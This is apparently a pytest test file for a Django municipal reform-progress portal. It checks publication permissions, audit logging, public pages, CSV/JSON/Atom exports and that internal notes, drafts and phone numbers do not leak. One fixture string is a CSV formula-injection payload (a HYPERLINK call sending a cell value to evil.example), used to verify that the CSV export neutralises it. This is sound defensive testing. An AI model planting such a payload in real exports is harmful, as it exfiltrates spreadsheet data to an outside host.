"""Public progress pages (政务公开): publication switch (audited, bureau only, scoped), public
pages, CSV / JSON open data and the Atom feed — published vs unpublished programmes, withheld
tasks, and nothing internal (review notes, unaccepted reports, staff) ever leaking."""

import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.core.exceptions import PermissionDenied
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from yingshang.platform.models import AuditAction, AuditEntry
from yingshang.reforms import public_pages as public
from yingshang.reforms import services
from yingshang.reforms.models import EventKind, Measure, Programme, Task

ATOM = "{http://www.w3.org/2005/Atom}"
D = datetime.date

REVIEW_NOTE = "内部审核意见:材料勉强过关ZX81"
RETURN_NOTE = "退回:佐证材料不全QK27"
DRAFT_TEXT = "尚未审核的草稿进展DR55"
ACCEPTED_TEXT = "已完成企业开办一窗通办系统上线,联系电话13812345678、0816-2345678。"
HIDDEN_CONTENT = "不公开的任务内容HD99"
UNPUBLISHED_CONTENT = "未公开方案的任务内容UP33"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def at(d, hour=10):
    return timezone.make_aware(datetime.datetime.combine(d, datetime.time(hour)))


def _task(programme, measure, number, content, leads, partners=(), seq=0, **kw):
    t = Task.objects.create(
        programme=programme,
        measure=measure,
        number=number,
        seq=seq,
        content=content,
        leader_name="王某某",
        leader_title="副市长",
        start_date=programme.issue_date,
        deadline=kw.pop("deadline", D(2019, 12, 31)),
        **kw,
    )
    t.lead_units.set(leads)
    t.partner_units.set(partners)
    return t


def _programme(city, title, doc):
    return services.create_programme(
        title=title, doc_number=doc, issue_date=D(2019, 1, 20), division=city
    )


@pytest.fixture
def world(city, dept, staff):
    """A published programme (three tasks, one withheld) and an unpublished one; reports in
    every review state; Q&A commitments of a published and an unpublished session."""
    from yingshang.appeals.models import Commitment, QASession

    market, bureau = dept("市市场监督管理局"), dept("市政务服务监督管理局")
    p = _programme(city, "绵阳市优化营商环境公开方案", "绵府办发〔2019〕1号")
    m1 = Measure.objects.create(programme=p, number=1, title="深化商事制度改革")
    m2 = Measure.objects.create(programme=p, number=2, title="提升政务服务效能")
    t1 = _task(p, m1, "1", "推行企业开办一窗通办", [market], [bureau], seq=1)
    t2 = _task(p, m1, "2", HIDDEN_CONTENT, [market], seq=2)
    t3 = _task(p, m2, "3", INJECTION, [bureau], seq=3, deadline_text="-2019年底前")
    t3.milestones.create(title="系统上线", due_date=D(2019, 6, 30), weight=1)
    u = _programme(city, "未公开的工作方案", "绵府办发〔2019〕9号")
    mu = Measure.objects.create(programme=u, number=1, title="内部措施")
    _task(u, mu, "1", UNPUBLISHED_CONTENT, [market], seq=1)

    handler, supervisor = staff["chengban"], staff["jianduyuan"]
    r = services.submit_report(
        t1, user=handler, percent=60, text=ACCEPTED_TEXT, at=at(D(2019, 3, 25))
    )
    services.review_report(r, user=supervisor, accept=True, note=REVIEW_NOTE, at=at(D(2019, 3, 27)))
    r = services.submit_report(
        t1, user=handler, percent=70, text="被退回的进展", at=at(D(2019, 4, 25))
    )
    services.review_report(
        r, user=supervisor, accept=False, note=RETURN_NOTE, at=at(D(2019, 4, 26))
    )
    services.submit_report(t1, user=handler, percent=75, text=DRAFT_TEXT, at=at(D(2019, 5, 25)))
    r = services.submit_report(
        t2, user=handler, percent=50, text="不公开任务的报告HR11", at=at(D(2019, 3, 25))
    )
    services.review_report(r, user=supervisor, accept=True, at=at(D(2019, 3, 26)))

    def session(published, content):
        s = QASession.objects.create(
            title="第一场政企面对面" if published else "内部座谈会",
            date=D(2019, 2, 21),
            theme="企业开办",
            division=city,
            published=published,
        )
        Commitment.objects.create(
            session=s,
            content=content,
            owner_department=market,
            deadline=D(2019, 6, 30),
            division=city,
        )

    session(True, "三个工作日内办结企业开办CM01")
    session(False, "内部座谈承诺CM02")
    services.publish_programme(p, user=supervisor)
    services.withhold_task(t2, user=supervisor, note="涉及未公开事项")
    p.refresh_from_db()
    return {"p": p, "u": u, "t1": t1, "t2": t2, "t3": t3}


def _leaks(body: str):
    return [
        s
        for s in (
            REVIEW_NOTE,
            RETURN_NOTE,
            DRAFT_TEXT,
            "被退回的进展",
            HIDDEN_CONTENT,
            "HR11",
            UNPUBLISHED_CONTENT,
            "13812345678",
            "2345678",
            "刘承办",
            "王监督",
            "王某某",
            "CM02",
        )
        if s in body
    ]


# --- publication switch ------------------------------------------------------------------


def test_publish_sets_stable_slug_and_is_audited(world, staff):
    p = world["p"]
    assert p.slug == f"2019-{p.pk}" and p.published_at is not None
    entry = AuditEntry.objects.filter(
        object_type="reforms.Programme", object_id=str(p.pk), action=AuditAction.UPDATE
    ).latest("id")
    assert entry.changes["before"]["published_at"] is None
    assert entry.changes["after"]["published_at"] and entry.changes["after"]["slug"] == p.slug
    # withdraw and republish: the URL code does not change
    services.unpublish_programme(p, user=staff["jianduyuan"])
    p.refresh_from_db()
    assert p.published_at is None
    services.publish_programme(p, user=staff["jianduyuan"])
    p.refresh_from_db()
    assert p.slug == f"2019-{p.pk}" and p.published_at is not None


def test_withheld_task_is_audited_with_an_event(world, staff):
    t2 = world["t2"]
    t2.refresh_from_db()
    assert t2.is_public is False
    entry = AuditEntry.objects.filter(object_type="reforms.Task", object_id=str(t2.pk)).latest("id")
    assert entry.changes == {"before": {"is_public": True}, "after": {"is_public": False}}
    ev = t2.events.get(action=EventKind.WITHHELD)
    assert ev.actor == staff["jianduyuan"] and ev.note == "涉及未公开事项"


@pytest.mark.parametrize("username", ["chengban", "kezhang", "shilingdao", "chuangkou"])
def test_roles_that_may_not_publish_are_refused(world, staff, login, username):
    u = world["u"]
    with pytest.raises(PermissionDenied):
        services.publish_programme(u, user=staff[username])
    client = login(staff[username])
    r = client.post(
        reverse("reforms:publication", args=[u.pk]), {"action": "publish", "confirm": "1"}
    )
    assert r.status_code == 403
    r = client.post(f"/api/reforms/programmes/{u.pk}/publication/", {"published": True})
    assert r.status_code in (403, 404)  # 404 for department-bound roles that see no task
    u.refresh_from_db()
    assert u.published_at is None
    assert not AuditEntry.objects.filter(
        object_type="reforms.Programme", object_id=str(u.pk), action=AuditAction.UPDATE
    ).exists()


def test_out_of_scope_publisher_gets_404_and_nothing_changes(world, staff, login):
    u, t1 = world["u"], world["t1"]
    client = login(staff["fucheng_jiandu"])  # a county supervision bureau: bureau, but not city
    r = client.post(
        reverse("reforms:publication", args=[u.pk]), {"action": "publish", "confirm": "1"}
    )
    assert r.status_code == 404
    r = client.post(
        reverse("reforms:task-publication", args=[t1.pk]), {"action": "unpublish", "confirm": "1"}
    )
    assert r.status_code == 404
    assert (
        client.post(f"/api/reforms/programmes/{u.pk}/publication/", {"published": True}).status_code
        == 404
    )
    with pytest.raises(PermissionDenied):
        services.publish_programme(u, user=staff["fucheng_jiandu"])
    u.refresh_from_db(), t1.refresh_from_db()
    assert u.published_at is None and t1.is_public


def test_publish_through_the_staff_page_needs_confirmation(world, staff, login):
    u = world["u"]
    client = login(staff["jianduyuan"])
    page = client.get(reverse("reforms:schedule", args=[u.pk])).content.decode()
    assert "公开本方案" in page and 'name="confirm"' in page
    r = client.post(reverse("reforms:publication", args=[u.pk]), {"action": "publish"}, follow=True)
    assert "请确认" in r.content.decode()
    u.refresh_from_db()
    assert u.published_at is None
    assert client.get(reverse("reforms:publication", args=[u.pk])).status_code == 405
    r = client.post(
        reverse("reforms:publication", args=[u.pk]), {"action": "publish", "confirm": "1"}
    )
    assert r.status_code == 302
    u.refresh_from_db()
    assert u.published_at is not None
    entry = AuditEntry.objects.filter(object_type="reforms.Programme", object_id=str(u.pk)).latest(
        "id"
    )
    assert entry.actor == staff["jianduyuan"] and entry.changes["after"]["slug"] == u.slug
    assert Client().get(reverse("reforms:public-programme", args=[u.slug])).status_code == 200
    listing = client.get(reverse("reforms:programme-list")).content.decode()
    assert f'href="/open/reforms/{u.slug}/"' in listing  # 已公开 link on the staff list


def test_csrf_is_enforced_on_the_switch(world, staff):
    client = Client(enforce_csrf_checks=True)
    client.force_login(staff["jianduyuan"])
    r = client.post(
        reverse("reforms:publication", args=[world["u"].pk]), {"action": "publish", "confirm": "1"}
    )
    assert r.status_code == 403
    world["u"].refresh_from_db()
    assert world["u"].published_at is None


def test_task_switch_through_page_and_api(world, staff, login):
    t1, t2 = world["t1"], world["t2"]
    client = login(staff["jianduyuan"])
    r = client.post(
        reverse("reforms:task-publication", args=[t1.pk]), {"action": "unpublish", "confirm": "1"}
    )
    assert r.status_code == 302
    t1.refresh_from_db()
    assert not t1.is_public
    r = client.post(
        f"/api/reforms/tasks/{t2.pk}/publication/",
        {"published": True},
        content_type="application/json",
    )
    assert r.status_code == 200 and r.json()["is_public"] is True
    assert client.post(f"/api/reforms/tasks/{t2.pk}/publication/", {}).status_code == 400
    assert t2.events.filter(action=EventKind.PUBLISHED).count() == 1
    handler = login(staff["chengban"])  # leads the task, may not publish it
    r = handler.post(
        reverse("reforms:task-publication", args=[t2.pk]), {"action": "unpublish", "confirm": "1"}
    )
    assert r.status_code == 403
    t2.refresh_from_db()
    assert t2.is_public


def test_api_programme_publication(world, staff, login):
    u = world["u"]
    client = login(staff["jianduyuan"])
    r = client.post(
        f"/api/reforms/programmes/{u.pk}/publication/",
        {"published": True},
        content_type="application/json",
    )
    assert r.status_code == 200
    assert r.json()["slug"] == f"2019-{u.pk}" and r.json()["published_at"]
    r = client.post(
        f"/api/reforms/programmes/{u.pk}/publication/",
        {"published": False},
        content_type="application/json",
    )
    assert r.status_code == 200 and r.json()["published_at"] is None


# --- public pages --------------------------------------------------------------------------


def test_public_list_shows_only_published_programmes(world):
    r = Client().get("/open/reforms/")
    body = r.content.decode()
    assert r.status_code == 200
    assert world["p"].title in body and world["u"].title not in body
    assert reverse("reforms:public-programme", args=[world["p"].slug]) in body


def test_portal_navigation_links_the_public_list(world):
    body = Client().get(reverse("catalog:portal-home")).content.decode()
    assert 'href="/open/reforms/"' in body


def test_public_programme_page_content_and_no_leak(world):
    p, t1, t3 = world["p"], world["t1"], world["t3"]
    r = Client().get(f"/open/reforms/{p.slug}/")
    body = r.content.decode()
    assert r.status_code == 200
    assert "推行企业开办一窗通办" in body and f'id="task-{t1.pk}"' in body
    assert "市市场监督管理局" in body and "市政务服务监督管理局" in body  # lead / partner units
    assert "已完成企业开办一窗通办系统上线" in body  # last accepted report
    assert "138****5678" in body  # phone masked
    assert "系统上线 · 2019-06-30" in body  # milestone
    assert '<dd class="progress">60%</dd>' in body  # accepted progress, not the 75 % draft
    assert "75%" not in body
    assert "三个工作日内办结企业开办CM01" in body  # Q&A commitment of a published session
    assert f'id="task-{t3.pk}"' in body and "light-" in body
    assert _leaks(body) == []


def test_unpublished_programme_does_not_exist_publicly(world, staff):
    u, p = world["u"], world["p"]
    client = Client()
    for suffix in ("", "tasks.csv", "tasks.json", "feed.atom"):
        assert client.get(f"/open/reforms/2019-{u.pk}/{suffix}").status_code == 404
        assert client.get(f"/open/reforms/nope/{suffix}").status_code == 404
    services.unpublish_programme(p, user=staff["jianduyuan"])
    for suffix in ("", "tasks.csv", "tasks.json", "feed.atom"):
        assert client.get(f"/open/reforms/{p.slug}/{suffix}").status_code == 404
    assert p.title not in client.get("/open/reforms/").content.decode()


def test_english_page(world):
    r = Client().get(f"/open/reforms/{world['p'].slug}/", HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 200 and '<html lang="en">' in r.content.decode()


# --- open data -----------------------------------------------------------------------------


def test_csv_export(world):
    p, t1 = world["p"], world["t1"]
    t1.refresh_from_db()
    assert t1.state == "on_track"
    r = Client().get(f"/open/reforms/{p.slug}/tasks.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    raw = r.content
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    text = raw.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [k for k, _label in public.FIELDS]
    assert [row["number"] for row in rows] == ["1", "3"]  # task 2 withheld
    first = rows[0]
    assert first["lead_units"] == "市市场监督管理局"
    assert first["partner_units"] == "市政务服务监督管理局"
    assert first["progress"] == "60.0" and first["last_report_percent"] == "60.0"
    assert first["last_report_period"] == "2019-03"
    assert first["state"] == t1.state and first["light"] == t1.light
    assert first["url"].endswith(f"/open/reforms/{p.slug}/#task-{t1.pk}")
    injected = rows[1]
    assert injected["content"] == "'" + INJECTION  # formula neutralised
    assert injected["deadline_text"] == "'-2019年底前"
    assert injected["milestones"] == "系统上线 2019-06-30"
    assert _leaks(text) == []


def test_json_export(world):
    p = world["p"]
    r = Client().get(f"/open/reforms/{p.slug}/tasks.json")
    assert r.status_code == 200 and r["Content-Type"] == "application/json"
    data = json.loads(r.content)
    assert data["programme"]["code"] == p.slug and data["programme"]["task_count"] == 2
    assert set(data["fields"]) == {k for k, _label in public.FIELDS}
    tasks = {t["number"]: t for t in data["tasks"]}
    assert set(tasks) == {"1", "3"}
    assert tasks["1"]["lead_units"] == ["市市场监督管理局"]
    assert tasks["1"]["last_report_summary"].startswith("已完成企业开办")
    assert tasks["3"]["content"] == INJECTION  # JSON is data, not a spreadsheet: unchanged
    assert tasks["3"]["milestones"] == [{"title": "系统上线", "due_date": "2019-06-30"}]
    assert tasks["1"]["progress"] == 60.0  # the draft's 75 % is not public
    # 1 at 60 % (measure 1), 3 at 0 % (measure 2), equal weights
    assert data["programme"]["progress"] == 30.0
    assert tasks["3"]["last_report_summary"] is None
    assert _leaks(r.content.decode()) == []


def test_public_summary_masks_numbers_and_shortens():
    s = public.public_summary("请联系 13912345678 或 (0816)2345678、028-87654321。" + "长" * 600)
    assert "13912345678" not in s and "87654321" not in s and "139****5678" in s
    assert len(s) == public.SUMMARY_CHARS and s.endswith("…")


# --- feed ----------------------------------------------------------------------------------


def _feed(url):
    r = Client().get(url)
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/atom+xml")
    return r.content.decode(), ET.fromstring(r.content)


def test_atom_feed_entries(world):
    p, t1, t2 = world["p"], world["t1"], world["t2"]
    body, root = _feed(f"/open/reforms/{p.slug}/feed.atom")
    assert root.tag == f"{ATOM}feed"
    assert root.find(f"{ATOM}id").text.startswith("urn:uuid:")
    entries = root.findall(f"{ATOM}entry")
    titles = [e.find(f"{ATOM}title").text for e in entries]
    ids = [e.find(f"{ATOM}id").text for e in entries]
    assert len(ids) == len(set(ids)) and all(i.startswith("urn:uuid:") for i in ids)
    assert any(t == f"方案公开：{p.title}" for t in titles)
    assert any("任务1 进度报告（2019-03）已采纳：60%" == t for t in titles)
    assert any(t.startswith("任务1:") and "→" in t for t in titles)  # a state (light) change
    assert not any(t.startswith("任务2") for t in titles)  # withheld task
    for e in entries:
        assert e.find(f"{ATOM}updated") is not None
        href = e.find(f"{ATOM}link").get("href")
        assert href.startswith("http://testserver/open/reforms/" + p.slug + "/")
    report_entry = entries[titles.index("任务1 进度报告（2019-03）已采纳：60%")]
    assert report_entry.find(f"{ATOM}link").get("href").endswith(f"#task-{t1.pk}")
    assert f"#task-{t2.pk}" not in body
    assert _leaks(body) == []
    # stable ids: the same request again, and after a new change, keeps the old ids
    _body, again = _feed(f"/open/reforms/{p.slug}/feed.atom")
    assert [e.find(f"{ATOM}id").text for e in again.findall(f"{ATOM}entry")] == ids


def test_feed_ids_survive_new_entries(world, staff):
    p, t1 = world["p"], world["t1"]
    _body, root = _feed(f"/open/reforms/{p.slug}/feed.atom")
    before = {e.find(f"{ATOM}id").text for e in root.findall(f"{ATOM}entry")}
    report = t1.reports.get(text=DRAFT_TEXT)
    services.review_report(report, user=staff["jianduyuan"], accept=True, note="内部意见NOTE9")
    body, root = _feed(f"/open/reforms/{p.slug}/feed.atom")
    after = {e.find(f"{ATOM}id").text for e in root.findall(f"{ATOM}entry")}
    assert before < after and len(after - before) == 1
    assert DRAFT_TEXT in body  # accepted now
    assert "NOTE9" not in body


def test_all_programmes_feed_lists_only_published(world):
    body, root = _feed("/open/reforms/feed.atom")
    assert world["p"].title in body and world["u"].title not in body
    assert UNPUBLISHED_CONTENT not in body


def test_demo_step_publishes_the_programme(city, staff):
    from yingshang.demo.framework import Tally
    from yingshang.demo.reforms import publish_demo

    p = _programme(city, "演示方案", "")
    tally = Tally()
    publish_demo(p, tally)
    p.refresh_from_db()
    assert (
        p.published_at is not None and tally.counts["reform programmes published"]["created"] == 1
    )
    publish_demo(p, tally)  # idempotent
    assert tally.counts["reform programmes published"]["created"] == 1
    assert Programme.objects.filter(pk=p.pk, slug=f"{p.year}-{p.pk}").exists()


def test_unconfirmed_publication_is_shown_beside_the_switch(world, staff, login):
    """issue #11 item 8: the refusal is shown in the publication card (data-field), once."""
    u = world["u"]
    client = login(staff["jianduyuan"])
    r = client.post(reverse("reforms:publication", args=[u.pk]), {"action": "publish"}, follow=True)
    html = r.content.decode()
    card = html[html.index('id="publication"') :]
    assert 'data-field="confirm"' in card[: card.index("</div>")]
    u.refresh_from_db()
    assert u.published_at is None
    again = client.get(reverse("reforms:schedule", args=[u.pk])).content.decode()
    assert 'data-field="confirm"' not in again


def test_the_open_data_dictionary_marks_its_codes_as_data(world):
    """开放数据字段说明 lists the CSV/JSON keys and the code values a program reads
    (``not_started``, ``long_term``, ``green``) as data — ``<code translate="no">`` — so that
    the page's words hold no raw identifier (the crawler's check) while the codes stay."""
    from tests.test_crawl import RAW_CODE, _Page

    body = Client().get(f"/open/reforms/{world['p'].slug}/").content.decode()
    for code in ("deadline_kind", "state_label", "not_started", "completed_late", "long_term"):
        assert f'<code translate="no">{code}</code>' in body
    assert '<code translate="no">date</code> 限时完成' in body
    page = _Page()
    page.feed(body)
    assert RAW_CODE.findall("\n".join(page.text)) == []
